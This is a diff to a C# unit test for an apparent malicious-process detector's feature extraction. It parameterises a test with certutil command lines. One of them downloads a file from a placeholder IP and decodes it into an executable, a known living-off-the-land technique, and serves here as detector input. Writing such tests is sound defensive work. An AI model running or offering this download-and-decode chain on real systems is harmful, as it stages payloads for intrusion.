@@ -16,18 +16,22 @@ public class SparseGramTests
         Assert.All(grams, g => Assert.InRange(g, 0, SparseGrams.Buckets - 1));
     }
 
-    [Fact]
-    public void Every_set_bucket_has_a_name()
+    [Theory]
+    [InlineData("certutil -urlcache -split")]
+    [InlineData("x.exe")]
+    [InlineData("certutil -a -b -a http://192.0.2.1/a.txt C:\\Users\\Public\\a.txt; certutil -decode a.txt b.exe")]
+    public void Every_set_bucket_has_a_text_and_no_other(string commandLine)
     {
-        var e = Some.ProcessEvent(child: "certutil.exe", commandLine: "certutil -urlcache -split");
-        var grams = FeatureExtractor.Extract(e).Grams.ToHashSet();
+        var e = Some.ProcessEvent(child: "certutil.exe", commandLine: commandLine, parentCommandLine: "explorer /factory -embedding");
+        var (launch, features) = (Launch.Of(e), FeatureExtractor.Extract(e));
 
-        var names = SparseGrams.Describe(Launch.Of(e), FeatureExtractor.Extract(e).Values, grams);
+        var buckets = Enumerable.Range(0, FeatureSchema.Computed.Count)
+            .Where(f => features.Values[f] != 0)
+            .Select(f => SparseGrams.BucketOf(f, features.Values[f]))
+            .Concat(GramTexts.Of(launch).Select(t => t.Bucket))
+            .Concat(GramTexts.Letters(launch).Select(t => t.Bucket));
 
-        Assert.Equal(grams.Order(), names.Keys.Order());
-        Assert.Contains("command_line.word:-urlcache", names.Values);
-        Assert.Contains("command_line.word:-urlcache -split", names.Values);
-        Assert.Contains("telltale.fetches_code", names.Values);
+        Assert.Equal(features.Grams, buckets.Distinct().Order());
     }
 
     [Fact]
